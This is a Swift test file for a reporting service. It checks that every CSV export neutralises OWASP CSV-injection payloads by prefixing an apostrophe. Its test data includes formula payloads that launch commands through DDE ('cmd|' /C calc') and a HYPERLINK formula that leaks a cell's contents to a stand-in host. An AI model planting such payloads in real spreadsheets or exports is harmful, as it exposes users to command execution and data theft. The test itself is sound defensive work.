import CivicKafka
import CivicModels
import CivicPostgres
import CivicRuntime
import CivicTestTraits
import CivicTesting
import Foundation
import Logging
import ServiceLifecycle
import Testing

@testable import Reporting
@testable import ReportingCore
@testable import ReportingExports

/// Spreadsheet-safe exports (OWASP CSV injection): no cell of any CSV export starts a formula, whatever the
/// comments, event ids and service names say, while the Touchpoints header and its numbers stay as Touchpoints
/// accepts them.
@Suite(.startsProcesses, .hangGuard)
struct ReportingCSVInjectionTests {
    static let logger = Logger(label: "csv-injection-tests")

    /// Payloads from OWASP's CSV injection page and the variants spreadsheets also run.
    static let payloads = [
        "=2+5+cmd|' /C calc'!A0",
        "+2+5+cmd|' /C calc'!A0",
        "-2+5+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =HYPERLINK(\"http://example.invalid/?leak=\"&A1)",
        "\"=1+1",
        " \"  @SUM(1,2)",
        "\u{FF1D}1+1",
        "-5",
    ]

    /// Text a spreadsheet reads as it is: unchanged by the exporter.
    static let harmless = ["Quick and clear.", "a;=1+1 inside", "5 stars", "email me at a-b@example.org", "x=1"]

    /// An independent statement of OWASP's rule: would a spreadsheet read `cell` as a formula? A leading `'`
    /// makes a cell text (OWASP's remedy).
    static func startsAFormula(_ cell: String) -> Bool {
        guard let first = cell.unicodeScalars.first, first != "'" else { return false }
        if "=+-@\t\r".unicodeScalars.contains(first) { return true }
        let rest = cell.unicodeScalars.drop { $0.properties.isWhitespace || $0 == "\"" }
        return rest.first.map { "=+-@\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".unicodeScalars.contains($0) } ?? false
    }

    @Test(arguments: payloads)
    func aFormulaCellGetsALeadingApostropheAndQuotes(payload: String) {
        #expect(Self.startsAFormula(payload), "the payload itself is dangerous")
        #expect(CSVRecord.neutralised(payload) == "'" + payload)
        #expect(!Self.startsAFormula(CSVRecord.neutralised(payload)))
        let line = CSVRecord.line([.text(payload), .integer(1)])
        #expect(line.hasPrefix("\"'"), "a neutralised cell is quoted: \(line.debugDescription)")
    }

    @Test(arguments: harmless)
    func harmlessTextIsLeftAlone(text: String) {
        #expect(!Self.startsAFormula(text))
        #expect(CSVRecord.neutralised(text) == text)
    }

    @Test func numbersAndFormatWordsAreWrittenAsTheyAre() {
        // A negative number is a number to a spreadsheet, not a formula, and carries no payload; Touchpoints
        // values (0/1, 1-5, null) and the header stay byte for byte.
        #expect(CSVRecord.line([.integer(-5), .integer(0), .word("null"), .word("true"), .empty]) == "-5,0,null,true,\r\n")
        var header: [UInt8] = []
        CSVRecord.append(header: TouchpointsRow.header, to: &header)
        #expect(String(decoding: header, as: UTF8.self) == ReportingLevelsAndExportsTests.touchpointsHeader + "\r\n")
        // Quotes a spreadsheet may skip are skipped: an apostrophe first is already text, but the rule stays
        // simple and conservative.
        #expect(CSVRecord.neutralised("'=1+1") == "''=1+1")
        #expect(CSVRecord.neutralised("“=1+1") == "'“=1+1")
        // `;` and tab, which other dialects split cells on, are quoted so no part of a cell becomes a cell.
        #expect(CSVRecord.line([.text("a;=1+1"), .text("b\t=1+1")]) == "\"a;=1+1\",\"b\t=1+1\"\r\n")
    }

    /// The real reporting service and PostgreSQL, fed scored events over a real broker whose comments, event
    /// ids and service name are formula payloads: every CSV export, served and written by `reporting export`,
    /// neutralises them, and nothing else changes.
    @Test func everyCSVExportNeutralisesFormulaCellsAgainstTheRealService() async throws {
        let broker = try await TestBroker()
        let database = try await TestPostgres.shared().makeDatabase(prefix: "csvinjection")
        var runtime = RuntimeConfiguration(serviceName: "reporting", broker: broker)
        runtime.postgresURL = database
        runtime.httpPort = try freeLoopbackPort()
        var configuration = ReportingConfiguration(runtime: runtime)
        configuration.minimumCellSize = 10
        let adminToken = TestHTTP.randomSecret()
        configuration.adminToken = adminToken
        let services = try await buildReporting(configuration: configuration, registry: nil, logger: Self.logger)
        let group = ServiceGroup(services: services, gracefulShutdownSignals: [], cancellationSignals: [], logger: Self.logger)

        let agency = "CSVX"
        let service = "@SUM(1+9)*cmd|' /C calc'!A0"
        let occurredAt = FixtureTime.now
        var v2: [FeedbackEvent] = []
        var v1: [FeedbackEvent] = []
        let comments = Self.payloads + Self.harmless
        for (index, comment) in comments.enumerated() {
            var event = FeedbackEvent(
                schema: SchemaVersion.scored,
                eventId: index % 2 == 0 ? "=1+\(index)" : "csv-\(index)",
                occurredAt: occurredAt.addingTimeInterval(Double(index)),
                agency: agency,
                service: service,
                channel: .web,
                // Transaction points that would start a formula reach the transaction-points file.
                touchpoint: index % 4 == 0 ? "@SUM(A1)-\(index % 8)" : nil,
                form: .a11v2,
                answers: Answers(trust: .thumbs(index % 3 == 0 ? 0 : 1), wentWell: [.ease], didNotGoWell: [.efficiency]),
                comment: comment
            )
            event.respondent = Respondent(status: .anonymous)
            event.spam = SpamAssessment(flagged: false, reasons: [])
            v2.append(event)
        }
        for index in 0..<10 {
            var event = FeedbackEvent(
                schema: SchemaVersion.scored,
                eventId: "-legacy-\(index)",
                occurredAt: occurredAt.addingTimeInterval(Double(100 + index)),
                agency: agency,
                service: service,
                channel: .phone,
                form: .a11v1,
                answers: Answers(trust: .legacy(4), satisfaction: 5),
                comment: "=1+1"
            )
            event.respondent = Respondent(status: .anonymous)
            event.spam = SpamAssessment(flagged: false, reasons: [])
            v1.append(event)
        }

        try await withThrowingTaskGroup(of: Void.self) { tasks in
            tasks.addTask { try await group.run() }
            let producer = try KafkaProducer(configuration: runtime.kafkaProducer, logger: Self.logger)
            let encoder = CivicJSON.makeEncoder()
            _ = try await producer.send(
                try (v2 + v1).map { KafkaOutboundMessage(topic: CivicTopic.scored, key: $0.eventId, value: Array(try encoder.encode($0))) }
            )
            await producer.close()
            let client = PostgresClient(configuration: PostgresConfiguration(connectionString: database), logger: Self.logger)
            defer { client.close() }
            let deadline = ContinuousClock.now + TestPatience.hang
            while (try? await client.query("SELECT count(*) AS n FROM reporting.feedback").first?.require("n", as: Int.self)) != v2.count + v1.count {
                guard ContinuousClock.now < deadline else { throw TestEnvironmentError("reporting did not store the events") }
                try await Task.sleep(for: .milliseconds(200))
            }
            let base = "http://127.0.0.1:\(runtime.httpPort)"
            let token = try await TestHTTP.mintReportingToken(base: base, adminToken: adminToken, agency: agency, role: "analyst")
            let quarter = FiscalQuarter(containing: occurredAt)
            let encodedService = try #require(service.addingPercentEncoding(withAllowedCharacters: .alphanumerics))
            let period = "fiscalYear=\(quarter.fiscalYear)&quarter=\(quarter.quarter)"
            var served: [String: String] = [:]
            for path in [
                "touchpoints.csv?agency=\(agency)&service=\(encodedService)&channel=web&\(period)",
                "collections.csv?agency=\(agency)&\(period)",
                "legacy.csv?agency=\(agency)&\(period)",
            ] {
                let answer = try await TestHTTP.send("GET", "\(base)/v1/exports/\(path)", bearer: token)
                #expect(answer.status == 200, "\(path): \(answer.text)")
                served[path] = answer.text
            }

            // Touchpoints: the header byte for byte, the numbers and `null` as they are, every text cell neutralised
            // exactly when it would start a formula.
            let touchpoints = try #require(served.first { $0.key.hasPrefix("touchpoints") }?.value)
            #expect(touchpoints.hasPrefix(ReportingLevelsAndExportsTests.touchpointsHeader + "\r\n"))
            let rows = try ReportingLevelsAndExportsTests.parseCSV(touchpoints).dropFirst()
            #expect(rows.count == v2.count)
            for (row, event) in zip(rows, v2) {
                let comment = event.comment ?? ""
                #expect(row[0] == (Self.startsAFormula(event.eventId) ? "'" : "") + event.eventId)
                #expect(row[1] == (event.answers.trust?.value == 1 ? "1" : "0"))
                #expect(row[2...15].allSatisfy { $0 == "0" || $0 == "1" || $0 == "null" })
                #expect(row[16] == (Self.startsAFormula(comment) ? "'" : "") + comment, "\(comment.debugDescription)")
            }
            #expect(!touchpoints.contains(",=2+5+cmd") && touchpoints.contains(",\"'=2+5+cmd|' /C calc'!A0\"\r\n"))

            // Every served export and every file `reporting export` writes: no cell starts a formula.
            let directory = FileManager.default.temporaryDirectory.appendingPathComponent("civic-csv-\(UUID().uuidString.prefix(8))")
            defer { try? FileManager.default.removeItem(at: directory) }
            let summary = try await exportReporting(
                configuration: configuration,
                agency: agency,
                fiscalYear: quarter.fiscalYear,
                quarter: quarter.quarter,
                directory: directory,
                logger: Self.logger
            )
            #expect(summary.files.count == 5, "collections, transaction points, legacy, one Touchpoints file and the summary: \(summary.files)")
            var texts = served.map { ($0.key, $0.value) }
            #expect(
                try String(contentsOf: directory.appendingPathComponent(summary.files[1]), encoding: .utf8).contains(
                    ",\"'@SUM(A1)-4\",\(quarter.fiscalYear),"
                ),
                "\(summary.files[1]): the transaction point is written, neutralised"
            )
            for file in summary.files where file.hasSuffix(".csv") {
                texts.append((file, try String(contentsOf: directory.appendingPathComponent(file), encoding: .utf8)))
            }
            for (name, text) in texts {
                let records = try ReportingLevelsAndExportsTests.parseCSV(text)
                for cell in records.joined() {
                    #expect(!Self.startsAFormula(cell), "\(name): \(cell.debugDescription) starts a formula")
                }
                if name.contains("collections") || name.contains("legacy") {
                    // Collections and legacy counts name the service: neutralised, and their figures unchanged.
                    #expect(records.dropFirst().contains { $0[1] == "'" + service && $0[5] == "false" }, "\(name)")
                }
            }
            await group.triggerGracefulShutdown()
            try await tasks.waitForAll()
        }
    }
}
